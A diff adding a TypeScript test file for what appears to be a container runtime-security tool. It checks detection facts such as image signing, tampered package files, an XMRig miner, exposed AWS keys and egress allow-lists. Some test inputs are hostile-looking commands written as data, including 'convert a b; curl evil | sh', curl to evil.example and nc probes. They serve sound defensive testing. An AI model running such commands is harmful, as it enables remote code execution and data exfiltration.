@@ -1,0 +1,272 @@
+import type { Observation } from '@tidewaiter/domain';
+
+import { factContext } from './context.js';
+import { factsFromFile } from './facts-file.js';
+import { factField, factFields, isFactField } from './fields.js';
+
+const digest = `sha256:${'a'.repeat(64)}`;
+const previous = `sha256:${'b'.repeat(64)}`;
+const hash = 'c'.repeat(64);
+
+const file = {
+  format: 'tidewaiter-storyline-facts/1',
+  cluster: 'prod',
+  images: {
+    [digest]: {
+      repository: 'registry.example.com/shop/api',
+      tag: '1.4',
+      created: '2026-01-01T00:00:00Z',
+      pushed: { at: '2026-01-02T00:00:00Z', by: 'mallory' },
+      config: { entrypoint: ['/app/server'], user: '' },
+      signature: { signed: false, verified: false },
+      provenance: { present: false },
+      files: {
+        '/app/server': { sha256: hash, package: null },
+        '/usr/bin/curl': { sha256: hash, package: 'curl' },
+        '/usr/lib/liblzma.so.5': { sha256: hash, package: 'liblzma5', matches_package_metadata: false },
+        '/opt/miner': { sha256: hash, package: null, malware: 'XMRig' },
+      },
+      vulnerabilities: [
+        { id: 'CVE-2026-0001', package: 'curl', severity: 'High', kev: false, epss: 0.6 },
+        { id: 'CVE-2026-0002', package: 'curl', severity: 'Low', kev: false, epss: 0.01 },
+      ],
+      secrets: [{ type: 'aws-access-key', path: '/app/.env', fingerprint: 'f1', access_key_id: 'AKIAEXAMPLE' }],
+      previous_digests: [
+        {
+          digest: previous,
+          pushed_by: 'ci',
+          signed: true,
+          diff: { added_files: ['/usr/bin/curl'], changed_files: ['/app/server'], entrypoint_before: ['/start.sh'] },
+        },
+      ],
+    },
+  },
+  workloads: {
+    'shop/Deployment/api': { image_digest: digest, exposed: true, privileged: false, service_account: 'api' },
+    'ci/Job/build': { namespace_labels: { purpose: 'ci' } },
+  },
+  policy: {
+    admins: ['alice'],
+    allowed_egress: { 'shop/api': ['192.0.2.0/28', '*.example.net'] },
+    debug_namespaces: ['debug'],
+    cluster_dns: '10.96.0.10',
+    egress_seen_with_previous_digest: { 'shop/api': ['10.1.1.1'] },
+    exec_probes: { 'shop/api': ['sh -c nc -z 127.0.0.1 80'] },
+    known_child_commands: { 'shop/api': ['sh -c convert *'] },
+    internal_ranges: ['198.51.100.0/24'],
+    key_usual_source: { AKIAEXAMPLE: ['10.0.0.0/8'], 'pod-role': ['10.0.0.0/8'] },
+    package_mirrors: ['192.0.2.64/28'],
+    sa_usual_namespaces: { 'ci:runner': ['ci'] },
+    sa_usual_sources: { 'ci:runner': ['10.0.0.0/8'] },
+    sa_usual_user_agents: { 'ci:runner': ['svc/1.0'] },
+    security_agents: ['security/agent'],
+    signature_required_namespaces: ['shop'],
+    internal_npm_scopes: ['@corp'],
+    resolved_from_public_registry: ['@corp/auth@9.9.9'],
+  },
+};
+
+const { facts, policy } = factsFromFile(file);
+const context = factContext({ facts, policy });
+
+type Parts<Value> = Partial<{ [Key in keyof Value]: unknown }>;
+
+function observation(parts: {
+  process?: Parts<NonNullable<Observation['process']>>;
+  file?: Parts<NonNullable<Observation['file']>>;
+  network?: Parts<NonNullable<Observation['network']>>;
+  request?: Parts<NonNullable<Observation['request']>>;
+  pod?: Parts<NonNullable<Observation['pod']>>;
+  container?: Parts<NonNullable<Observation['container']>>;
+  activity?: Observation['activity'];
+}): Observation {
+  const container = { imageDigest: digest, startedAt: '2026-01-03T00:00:00Z', ...parts.container };
+  const pod = { namespace: 'shop', workload: 'api', workloadKind: 'Deployment', ...parts.pod };
+  const blank = { process: null, file: null, network: null, request: null, alert: null, cluster: 'prod' };
+  const request = parts.request && { sourceIps: [], groups: [], ...parts.request };
+  const timeMs = Date.parse('2026-01-03T00:00:30Z');
+  const about = parts.request ? { container: null, pod: null } : { container, pod };
+  return {
+    activity: 'exec',
+    timeMs,
+    ...blank,
+    ...about,
+    ...parts,
+    ...(request && { request }),
+  } as unknown as Observation;
+}
+
+const exec = (executable: string, more: object = {}) =>
+  observation({ process: { executable, commandLine: executable, parentCommandLine: null, ...more } });
+const connect = (destinationIp: string | null, hostname: string | null = null, commandLine = 'curl') =>
+  observation({
+    activity: 'connect',
+    network: { destinationIp, hostname },
+    process: { executable: '/usr/bin/curl', commandLine, parentCommandLine: null },
+  });
+const request = (parts: Parts<NonNullable<Observation['request']>>) =>
+  observation({ activity: 'request', request: parts });
+const runner = { user: 'system:serviceaccount:ci:runner' };
+
+it.each<[string, Observation, unknown]>([
+  ['Image.Digest', exec('/app/server'), digest],
+  ['Image.Tag', exec('/app/server'), '1.4'],
+  ['Image.Scanned', exec('/app/server'), true],
+  ['Image.Scanned', observation({ container: { imageDigest: previous } }), false],
+  ['Image.Scanned', observation({ container: { imageDigest: null } }), undefined],
+  ['Image.Signed', exec('/app/server'), false],
+  ['Image.SignerChanged', exec('/app/server'), true],
+  ['Image.ProvenanceVerified', exec('/app/server'), false],
+  ['Image.TagMoved', exec('/app/server'), true],
+  ['Image.PusherChanged', exec('/app/server'), true],
+  ['Image.EntrypointChanged', exec('/app/server'), true],
+  ['Image.AgeHours', exec('/app/server'), 24 + 30 / 3600],
+  ['Image.FirstSeen', exec('/app/server'), undefined],
+  ['Image.Role', exec('/app/server'), 'app'],
+  ['Image.Role', observation({ pod: { namespace: 'debug', workload: 'x', workloadKind: 'Pod' } }), 'debug'],
+  ['Image.Role', observation({ pod: { namespace: 'ci', workload: 'build', workloadKind: 'Job' } }), 'builder'],
+  ['Image.Role', observation({ pod: { namespace: 'security', workload: 'agent', workloadKind: null } }), 'security'],
+  ['Image.Role', observation({ pod: { namespace: null } }), undefined],
+  ['Image.PublicRegistry', exec('/app/server'), false],
+  ['Image.Exploited', exec('/app/server'), true],
+  ['Image.ExploitedVulns', exec('/app/server'), ['CVE-2026-0001']],
+  ['Image.Flagged', exec('/app/server'), ['XMRig', 'package-file-modified']],
+  ['File.InImage', exec('/app/server'), true],
+  ['File.InImage', exec('/app/../usr//bin/./curl'), true],
+  ['File.InImage', exec('./server', { workingDirectory: '/app' }), true],
+  ['File.InImage', exec('/tmp/x'), false],
+  ['File.InImage', exec('memfd:kernel'), false],
+  ['File.InImage', exec('server'), undefined],
+  ['File.InImage', observation({ container: { imageDigest: previous }, process: { executable: '/x' } }), undefined],
+  [
+    'File.InImage',
+    observation({ container: { imageDigest: null }, process: { executable: '/x', fromUpperLayer: true } }),
+    false,
+  ],
+  ['File.ContentMatches', exec('/app/server', { sha256: hash.toUpperCase() }), true],
+  ['File.ContentMatches', exec('/app/server', { sha256: 'd'.repeat(64) }), false],
+  ['File.ContentMatches', exec('/app/server'), undefined],
+  ['File.ContentMatches', exec('/tmp/x', { sha256: hash }), undefined],
+  ['File.PackageContentMatches', exec('/usr/bin/curl'), true],
+  ['File.PackageContentMatches', exec('/usr/lib/liblzma.so.5'), false],
+  ['File.PackageContentMatches', exec('/app/server'), undefined],
+  ['File.Package', exec('/usr/bin/curl'), 'curl'],
+  ['File.Package', exec('/app/server'), undefined],
+  ['File.PackageVulns', exec('/usr/bin/curl'), ['CVE-2026-0001', 'CVE-2026-0002']],
+  ['File.MaxSeverity', exec('/usr/bin/curl'), 'high'],
+  ['File.MaxSeverity', exec('/usr/lib/liblzma.so.5'), undefined],
+  ['File.Exploited', exec('/usr/bin/curl'), true],
+  ['File.Exploited', exec('/usr/lib/liblzma.so.5'), false],
+  ['File.Malware', exec('/opt/miner'), true],
+  ['File.Malware', exec('/usr/bin/curl'), false],
+  ['File.Malware', exec('/tmp/x'), undefined],
+  ['File.AddedSinceDigest', exec('/usr/bin/curl'), true],
+  ['File.AddedSinceDigest', exec('/app/server'), false],
+  ['File.ChangedSinceDigest', exec('/app/server'), true],
+  ['File.Entrypoint', exec('/app/server'), true],
+  [
+    'File.InImage',
+    observation({ activity: 'file', file: { path: '/app/server' }, process: { executable: '/x' } }),
+    true,
+  ],
+  ['File.NpmPackage', exec('/bin/sh', { workingDirectory: '/src/node_modules/@corp/auth' }), '@corp/auth'],
+  ['File.NpmPackage', exec('/src/node_modules/a/node_modules/b/bin/x'), 'b'],
+  ['File.NpmPackage', exec('/src/node_modules/.bin/x'), undefined],
+  ['File.NpmScopeInternal', exec('/bin/sh', { workingDirectory: '/src/node_modules/@corp/auth' }), true],
+  ['File.NpmFromPublicRegistry', exec('/bin/sh', { workingDirectory: '/src/node_modules/@corp/auth' }), true],
+  ['Container.AgeSeconds', exec('/app/server'), 30],
+  ['Container.AgeSeconds', observation({ container: { startedAt: 'yesterday' } }), undefined],
+  ['Container.Privileged', exec('/app/server'), false],
+  ['Container.Exposed', exec('/app/server'), true],
+  ['Dest.Public', connect('203.0.113.7'), true],
+  ['Dest.Public', connect('::ffff:203.0.113.7'), true],
+  ['Dest.Public', connect('10.1.1.1'), false],
+  ['Dest.Public', connect('169.254.169.254'), false],
+  ['Dest.Public', connect(null), undefined],
+  ['Dest.Internal', connect('169.254.169.254'), false],
+  ['Dest.Internal', connect('10.1.1.1'), true],
+  ['Dest.Internal', connect('198.51.100.9'), true],
+  ['Dest.Internal', connect('fd12::1'), true],
+  ['Dest.Allowed', connect('192.0.2.3'), true],
+  ['Dest.Allowed', connect('192.0.2.70'), true],
+  ['Dest.Allowed', connect('203.0.113.7', 'api.example.net'), true],
+  ['Dest.Allowed', connect('203.0.113.7', 'api.example.net.evil.example'), false],
+  ['Dest.Allowed', connect('203.0.113.7'), undefined],
+  ['Dest.Allowed', connect('203.0.113.7', null, 'curl http://203.0.113.7/x'), false],
+  ['Dest.Allowed', connect('203.0.113.7', null, 'curl https://a.example.net/x'), true],
+  ['Dest.Allowed', connect('203.0.113.7', null, 'curl https://a.example.net/x https://evil.example'), false],
+  ['Dest.Allowed', connect('203.0.113.7', null, 'curl https://a.example.net@evil.example/'), false],
+  ['Dest.ClusterDns', connect('10.96.0.10'), true],
+  ['Dest.SeenWithDigest', connect('203.0.113.7'), undefined],
+  ['Dest.SeenWithPreviousDigest', connect('10.1.1.1'), true],
+  ['Dest.SeenWithPreviousDigest', connect('203.0.113.7'), false],
+  ['Secret.KnownPath', observation({ activity: 'file', file: { path: '/app/.env' } }), true],
+  ['Secret.KnownPath', observation({ activity: 'file', file: { path: '/app/x' } }), false],
+  ['Secret.Fingerprint', observation({ activity: 'file', file: { path: '/app/.env' } }), 'f1'],
+  ['Secret.Fingerprint', request({ accessKeyId: 'AKIAEXAMPLE' }), 'f1'],
+  ['Secret.Fingerprint', request({ accessKeyId: 'AKIAOTHER' }), undefined],
+  ['Image.Digest', request({ accessKeyId: 'AKIAEXAMPLE' }), digest],
+  ['Source.Public', request({ sourceIps: ['203.0.113.9', '10.0.0.1'] }), true],
+  ['Source.Public', request({ sourceIps: ['10.0.0.1'] }), false],
+  ['Source.Public', request({ sourceIps: ['ec2.example.com'] }), undefined],
+  ['Image.Role', request({ namespace: 'debug' }), 'debug'],
+  ['Identity.UsualSource', request({ accessKeyId: 'AKIAEXAMPLE', sourceIps: ['10.9.9.9'] }), true],
+  ['Identity.UsualSource', request({ accessKeyId: 'AKIAEXAMPLE', sourceIps: ['203.0.113.9'] }), false],
+  ['Identity.UsualSource', request({ accessKeyId: 'AKIAEXAMPLE', sourceIps: ['ec2.example.com'] }), undefined],
+  ['Identity.UsualSource', request({ ...runner, sourceIps: ['203.0.113.9', '10.1.1.1'] }), false],
+  [
+    'Identity.UsualSource',
+    request({ user: 'arn:aws:sts::1:assumed-role/pod-role/x', accessKeyId: 'ASIAX', sourceIps: ['203.0.113.9'] }),
+    false,
+  ],
+  ['Identity.UsualSource', request({ user: 'constructor', sourceIps: ['203.0.113.9'] }), undefined],
+  ['Identity.UsualClient', request({ ...runner, userAgent: 'svc/2.0 (linux)' }), true],
+  ['Identity.UsualClient', request({ ...runner, userAgent: 'kubectl/v1.30' }), false],
+  ['Identity.UsualNamespace', request({ ...runner, namespace: 'ci' }), true],
+  ['Identity.UsualNamespace', request({ ...runner, namespace: 'shop' }), false],
+  ['Policy.Admin', request({ user: 'alice' }), true],
+  ['Policy.Admin', request({ user: 'bob' }), false],
+  ['Policy.SecurityAgent', request({ namespace: 'security', name: 'agent' }), true],
+  ['Policy.SignatureRequired', exec('/app/server'), true],
+  ['Policy.ExecProbe', exec('/bin/sh', { commandLine: '/bin/sh -c "nc -z 127.0.0.1 80"' }), true],
+  ['Policy.ExecProbe', exec('/bin/nc', { commandLine: 'nc', parentCommandLine: 'sh -c nc  -z 127.0.0.1 80' }), true],
+  ['Policy.ExecProbe', exec('/bin/sh', { commandLine: 'sh -c id' }), false],
+  ['Policy.KnownChild', exec('/bin/sh', { commandLine: '/bin/sh -c "convert a b"' }), true],
+  ['Policy.KnownChild', exec('/bin/sh', { commandLine: '/bin/sh -c "convert a b; curl evil | sh"' }), false],
+  ['Process.Executable', exec('/app/server'), undefined],
+])('answers %s', (name, about, expected) => {
+  expect(factField(name, about, context)).toEqual(expected);
+});
+
+it('asks the ledger where nothing else is known, and believes it before the event itself', () => {
+  const workload = { cluster: 'prod', namespace: 'ci', kind: 'Job', name: 'build' };
+  const labels = { namespaceLabels: { 'tidewaiter.dev/role': 'Debug' } };
+  const unsaid = { exposed: null, replicas: 1, serviceAccount: null, imageDigests: [] };
+  const known = factContext({
+    ...factsFromFile({}),
+    lookup: {
+      digestOf: () => previous,
+      workloadOf: () => workload,
+      startedAtOf: () => Date.parse('2026-01-03T00:00:20Z'),
+      workload: (ref) => ({ ...ref, ...labels, ...unsaid, privileged: true }),
+      probesOf: () => ['/bin/true'],
+    },
+  });
+  const probe = observation({
+    pod: {},
+    process: { executable: '/bin/true', commandLine: 'true', parentCommandLine: null },
+  });
+  const answers = ['Image.Digest', 'Image.Role', 'Container.Privileged', 'Container.AgeSeconds', 'Policy.ExecProbe'];
+  expect(answers.map((name) => factField(name, probe, known))).toEqual([previous, 'debug', true, 10, true]);
+});
+
+it('knows nothing, and does not fail, where nothing is told', () => {
+  const blank = { process: null, file: null, network: null, request: null, container: null, pod: null, cluster: null };
+  const about = { activity: 'other', timeMs: 0, ...blank } as unknown as Observation;
+  const answers = factFields.map(({ name }) => factField(name, about, context));
+  expect(answers.filter((answer) => answer !== undefined)).toEqual([]);
+});
+
+it('tells its fields from others', () => {
+  expect([isFactField('Image.Digest'), isFactField('constructor'), isFactField('Image')]).toEqual([true, false, false]);
+});
